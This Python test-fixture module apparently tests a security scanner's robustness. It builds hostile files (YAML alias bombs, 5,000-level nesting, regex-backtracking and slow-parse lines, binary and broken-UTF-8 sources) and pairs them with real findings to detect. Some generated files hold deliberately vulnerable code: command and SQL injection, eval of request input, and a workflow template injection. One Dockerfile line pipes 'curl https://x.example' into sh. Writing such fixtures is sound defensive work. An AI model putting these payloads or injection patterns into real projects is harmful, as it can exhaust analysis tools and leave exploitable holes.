"""Generated hostile files: what a pull request author can add to stall, crash or blind an analysis.

Each entry is one file a hostile change adds. `REAL_FINDINGS` are ordinary files with a real finding
that must still be reported beside them. Sizes stay under the default 1 MB file cap so that every file
is read and reaches the parsers and rules (a file over the cap is a different, simpler case).
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

DEEP = 5_000  # nesting levels of the deep files (the interpreter's recursion limit is 1,000)


@dataclass(frozen=True, slots=True)
class Hostile:
    path: str
    build: Callable[[], bytes]
    why: str


def _nested(open_: str, close: str, depth: int = DEEP, inner: str = "") -> str:
    return open_ * depth + inner + close * depth


def _deep_block_yaml(depth: int) -> str:
    return "".join(f"{' ' * level}k{level}:\n" for level in range(depth)) + " " * depth + "v: 1\n"


def _alias_bomb(levels: int = 10, width: int = 9) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for level in range(1, levels):
        refs = ", ".join(f"*a{level - 1}" for _ in range(width))
        lines.append(f"a{level}: &a{level} [{refs}]")
    return "\n".join(lines) + "\n"


def _workflow_deep_flow() -> bytes:
    text = "on: push\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps: " + _nested("[", "]") + "\n"
    return text.encode()


def _workflow_deep_block() -> bytes:
    # 400 levels of one-space indentation: 800 bytes of headers under `jobs:`.
    body = "".join(f"{' ' * (level + 1)}j{level}:\n" for level in range(400))
    return ("on: push\njobs:\n" + body).encode()


def _workflow_alias_bomb() -> bytes:
    bomb = _alias_bomb().replace("\n", "\n  ")
    text = "on: [push]\npermissions: write-all\nanchors:\n  " + bomb + "\njobs:\n  x:\n    steps: *a9\n"
    return text.encode()


def _kubernetes_alias_bomb() -> bytes:
    bomb = _alias_bomb().replace("\n", "\n  ")
    return ("apiVersion: v1\nkind: Pod\nmetadata:\n  " + bomb + "\nspec:\n  containers: *a9\n").encode()


def _template_backtracking() -> bytes:
    # A Helm-style line that a `(…{{.*?}}\s*)+$` pattern backtracks on exponentially.
    line = "{{" + "}}{{" * 60 + "x"
    return (f"apiVersion: v1\nkind: ConfigMap\n: [\n{line}\n" + "data:\n  a: {{ .b }}\n").encode()


def _package_json() -> bytes:
    text = '{"name": "x", "dependencies": {"left-pad": "1.3.0"}, "x": ' + _nested("[", "]") + "}"
    return text.encode()


def _mcp_json() -> bytes:
    return ('{"mcpServers": ' + _nested('{"a": ', "}", inner="1") + "}").encode()


def _tool_yaml_bomb() -> bytes:
    return (_alias_bomb() + "mcpServers: *a9\n").encode()


def _pyproject() -> bytes:
    return ("[project]\nname = 'x'\ndependencies = ['requests']\nx = " + _nested("[", "]") + "\n").encode()


def _terraform() -> bytes:
    blocks = _nested('resource "a" "b" {\n', "}\n", depth=2_000)
    return (blocks + "locals {\n  x = " + _nested("[", "]") + "\n}\n").encode()


def _dockerfile() -> bytes:
    nested = _nested("$(echo ", ")", depth=2_000, inner="x")
    return f"FROM alpine:3.19\nRUN {nested}\nRUN curl -s https://x.example | sh\n".encode()


def _python_deep() -> bytes:
    return ("import os\nx = " + _nested("(", ")", inner="os.environ['A']") + "\nos.system(x)\n").encode()


def _javascript_deep() -> bytes:
    return ("const x = " + _nested("[", "]", inner="req.query.a") + ";\neval(x);\n").encode()


def _go_deep() -> bytes:
    handler = "func h(w http.ResponseWriter, r *http.Request) {\n"
    value = "x := " + _nested("(", ")", inner='r.FormValue("a")') + "\n"
    blocks = _nested('if x != "" {\n', "}\n", depth=2_000)
    imports = 'package main\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\n'
    return (imports + handler + value + blocks + "exec.Command(x).Run()\n}\n").encode()


def _go_huge() -> bytes:
    unit = (
        "func handler{n}(w http.ResponseWriter, r *http.Request) {{\n"
        '\tq := "SELECT * FROM t WHERE a = \'" + r.FormValue("a") + "\'"\n'
        '\tif q != "" {{\n\t\tdb.Query(q)\n\t}}\n}}\n\n'
    )
    head = 'package main\n\nimport (\n\t"database/sql"\n\t"net/http"\n)\n\nvar db *sql.DB\n\n'
    return (head + "".join(unit.format(n=n) for n in range(2_000))).encode()


def _minified() -> bytes:
    unit = "var a=b(c,d)+e[f]||g&&h?i:j;"
    return ("".join(unit for _ in range(900_000 // len(unit))) + "\n").encode()


def _long_line_python() -> bytes:
    return ("x = '" + "a" * 900_000 + "'\n").encode()


def _slow_parse_python() -> bytes:
    # tree-sitter-python's error recovery takes about 20 s over this 6 KB line (past the parse limit).
    return ("x = 1\n" + "/+" * 3000 + "\nimport os\nos.system(input())\n").encode()


def _binary_python() -> bytes:
    return b"import os\n\x00\x01\x02\xff\xfe" + bytes(range(256)) * 40 + b"\nos.system(input())\n"


def _broken_utf8() -> bytes:
    return b"import os\n# \xc3\x28 \xa0\xa1 \xe2\x28\xa1 \xf0\x90\x28\xbc\nos.system(input())\n" * 50


def _deep_json() -> bytes:
    return _nested("[", "]").encode()


def _deep_yaml_flow() -> bytes:
    return ("a: " + _nested("{b: ", "}", inner="1") + "\n").encode()


HOSTILE: tuple[Hostile, ...] = (
    Hostile(".github/workflows/deep-flow.yml", _workflow_deep_flow, "a workflow nested 5,000 levels (flow)"),
    Hostile(".github/workflows/deep-block.yml", _workflow_deep_block, "a workflow nested 400 levels (block)"),
    Hostile(".github/workflows/bomb.yml", _workflow_alias_bomb, "a workflow alias bomb (9^10 nodes)"),
    Hostile("deploy/pod.yaml", _kubernetes_alias_bomb, "a Kubernetes alias bomb"),
    Hostile("chart/templates/cm.yaml", _template_backtracking, "a template line that backtracks"),
    Hostile("config/deep.yaml", _deep_yaml_flow, "YAML nested 5,000 levels"),
    Hostile("web/package.json", _package_json, "a package.json nested 5,000 levels"),
    Hostile(".vscode/mcp.json", _mcp_json, "an agent tool config nested 5,000 levels"),
    Hostile(".cursor/mcp.yaml", _tool_yaml_bomb, "an agent tool config alias bomb"),
    Hostile("svc/pyproject.toml", _pyproject, "a pyproject.toml nested 5,000 levels"),
    Hostile("infra/main.tf", _terraform, "HCL nested 2,000 blocks and 5,000 brackets"),
    Hostile("Dockerfile", _dockerfile, "a Dockerfile nesting 2,000 command substitutions"),
    Hostile("src/deep.py", _python_deep, "Python nested 5,000 parentheses"),
    Hostile("src/deep.js", _javascript_deep, "JavaScript nested 5,000 brackets"),
    Hostile("src/min.js", _minified, "a minified 900 KB line of JavaScript"),
    Hostile("src/deep.go", _go_deep, "Go nested 5,000 parentheses and 2,000 blocks"),
    Hostile("src/huge.go", _go_huge, "a 300 KB Go file of 2,000 handlers"),
    Hostile("src/long.py", _long_line_python, "a 900 KB line of Python"),
    Hostile("src/slow.py", _slow_parse_python, "a 6 KB line tree-sitter parses for seconds"),
    Hostile("src/blob.py", _binary_python, "binary bytes under a source extension"),
    Hostile("src/broken.py", _broken_utf8, "broken UTF-8 under a source extension"),
    Hostile("data/deep.json", _deep_json, "JSON nested 5,000 levels"),
)

SAFE_WORKFLOW = "on: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: make test\n"
RISKY_APP = (
    'import subprocess\n\n\ndef archive(name):\n    subprocess.run("tar czf b.tgz " + name, shell=True)\n'
)
RISKY_WORKFLOW = """on: pull_request_target
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "${{ github.event.pull_request.title }}"
"""
# (path, text, rule id, line): real findings beside the hostile files, one per affected family.
REAL_FINDINGS: tuple[tuple[str, str, str, int], ...] = (
    ("app.py", RISKY_APP, "code-command-injection", 5),
    (".github/workflows/greet.yml", RISKY_WORKFLOW, "actions-template-injection", 6),
)


def hostile_files(names: tuple[str, ...] | None = None) -> dict[str, bytes]:
    """The hostile files (all, or those at `names`), by path."""
    return {item.path: item.build() for item in HOSTILE if names is None or item.path in names}


def tiny_files(count: int) -> dict[str, bytes]:
    """`count` one-line source files in nested folders: many files, almost no bytes."""
    return {
        f"many/{index // 100:03d}/f{index:05d}.py": f"v{index} = {index}\n".encode() for index in range(count)
    }


def real_files() -> dict[str, bytes]:
    return {path: text.encode() for path, text, _rule, _line in REAL_FINDINGS}
